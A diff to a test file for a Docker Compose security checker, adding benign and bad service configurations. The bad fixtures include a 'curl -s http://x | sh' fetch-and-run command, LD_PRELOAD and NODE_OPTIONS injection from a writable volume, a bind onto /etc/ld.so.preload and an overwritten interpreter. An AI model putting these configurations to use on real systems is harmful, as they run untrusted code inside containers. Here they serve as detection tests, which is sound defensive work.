@@ -14,6 +14,7 @@ from checks.subject.roles import Role
 from checks.subject.stack import Stack
 from checks.subject.tests.resolved import resolved
 
+DATA = {"type": "volume", "source": "data", "target": "/app/data"}
 BENIGN: dict[str, dict[str, Any]] = {
     "says-nothing": {},
     "group-of-root": {"user": "10001:0"},
@@ -31,7 +32,44 @@ BENIGN: dict[str, dict[str, Any]] = {
     "certificates": {"volumes": [{"type": "bind", "source": "/etc/ssl/certs", "target": "/etc/ssl/certs"}]},
     "scratch": {"tmpfs": ["/scratch:size=16m"], "secrets": [{"source": "password"}]},
 }
+BENIGN |= {
+    "path": {"environment": {"PATH": "/opt/venv/bin:/usr/bin", "PYTHONPATH": "/app"}, "volumes": [DATA]},
+    "data-by-word": {"command": ["python3", "-m", "service", "--data", "/app/data/items"], "volumes": [DATA]},
+    "folder": {"command": ["python3", "-m", "service"], "working_dir": "/app", "volumes": [DATA]},
+    "missing": {"image": "shop/api:1", "pull_policy": "missing"},
+    "built": {"image": "shop/api:1", "pull_policy": "build"},
+    "awk-from-a-file": {"command": ["awk", "-f", "/app/serve.awk"]},
+    "node": {"command": ["node", "--enable-source-maps", "-r", "dotenv/config", "server.js", "-e", "production"]},
+}
 BAD: dict[str, tuple[str, dict[str, Any]]] = {
+    "pulled": ("runs-what-was-built", {"image": "shop/api:1", "pull_policy": "always"}),
+    "code-on-a-volume": ("runs-what-was-built", {"command": ["python3", "/app/data/main.py"], "volumes": [DATA]}),
+    "code-below-run": (
+        "runs-what-was-built",
+        {"command": ["/run/app/serve"], "volumes": [{"type": "volume", "source": "code", "target": "/run/app"}]},
+    ),
+    "starts-on-a-volume": (
+        "runs-what-was-built",
+        {"command": ["python3", "-m", "service"], "working_dir": "/app/data", "volumes": [DATA]},
+    ),
+    "python-path": ("runs-what-was-built", {"environment": {"PYTHONPATH": "/x:/app/data/more"}, "volumes": [DATA]}),
+    "preload": ("runs-what-was-built", {"environment": {"LD_PRELOAD": "/app/data/x.so"}, "volumes": [DATA]}),
+    "node-options": (
+        "runs-what-was-built",
+        {"environment": {"NODE_OPTIONS": "--require=/app/data/x.js"}, "volumes": [DATA]},
+    ),
+    "path-of-a-volume": ("runs-what-was-built", {"environment": {"PATH": "/app/data/bin:/bin"}, "volumes": [DATA]}),
+    "loader": (
+        "runs-what-was-built",
+        {"volumes": [{"type": "bind", "source": "settings.toml", "target": "/etc/ld.so.preload"}]},
+    ),
+    "interpreter-as-a-setting": ("runs-what-was-built", {"configs": [{"source": "c", "target": "/usr/bin/python3"}]}),
+    "script-as-a-setting": ("runs-what-was-built", {"configs": [{"source": "script", "target": "/app/serve"}]}),
+    "node-eval": ("container-exec-form", {"command": ["node", "--eval=require('x')"]}),
+    "perl": ("container-exec-form", {"command": ["perl", "-E", "say 1"]}),
+    "awk": ("container-exec-form", {"command": ["awk", "BEGIN{system(1)}"]}),
+    "split-by-env": ("container-exec-form", {"command": ["env", "-S", "sh -c serve"]}),
+    "shell-behind-others": ("container-exec-form", {"command": ["unshare", "-r", "sh", "-c", "curl x; serve"]}),
     "root": ("container-non-root", {"user": "0"}),
     "shell": ("container-exec-form", {"command": ["sh", "-c", "curl -s http://x | sh; exec python3 -m service"]}),
     "in-turn": ("container-exec-form", {"command": ["bash", "-c", "migrate && exec python3 -m service"]}),
@@ -67,7 +105,8 @@ def project(tmp_path: Path) -> Path:
 
 def stack_of_api(project: Path, keys: dict[str, Any]) -> Stack:
     api = {"build": {"context": "."}, "ports": [{"target": 5000}], **keys}
-    config = {"services": {"api": api}, "secrets": {"password": {"file": "settings.toml"}}}
+    settings = {"c": {"content": "x"}, "script": {"content": "#!/bin/sh\nserve"}}
+    config = {"services": {"api": api}, "secrets": {"password": {"file": "settings.toml"}}, "configs": settings}
     subject = Subject(compose_file=project / "compose.yaml", roles={Role.API: "api"})
     return resolved(subject, project, config)
 
@@ -124,4 +163,7 @@ def test_programs_that_changed_are_found() -> None:
     assert container.changed_in(harmless) == ()
     assert container.changed_in("C /app/main.py\nA /app/sitecustomize.py\nD /usr/lib/libssl.so.3\n") == (
         "/app/main.py", "/app/sitecustomize.py", "/usr/lib/libssl.so.3",
+    )  # fmt: skip
+    assert container.changed_in("C /usr/bin\nC /usr/bin/python3\nA /etc/ld.so.preload\nA /app/.venv/bin/serve\n") == (
+        "/usr/bin/python3", "/etc/ld.so.preload", "/app/.venv/bin/serve",
     )  # fmt: skip
